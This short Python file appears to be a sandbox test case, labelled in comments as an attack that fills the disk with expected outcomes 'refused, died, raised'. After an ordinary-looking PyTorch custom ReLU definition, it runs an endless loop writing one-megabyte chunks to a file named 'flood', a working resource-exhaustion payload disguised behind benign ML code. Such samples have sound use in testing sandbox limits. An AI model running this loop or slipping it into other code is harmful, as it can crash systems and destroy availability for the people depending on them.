# attack: fills the disk
# outcome: refused, died, raised
import torch


class MyReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, input):
        return input.clamp(min=0)

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output

with open("flood", "wb") as file:
    while True:
        file.write(b"x" * 2**20)
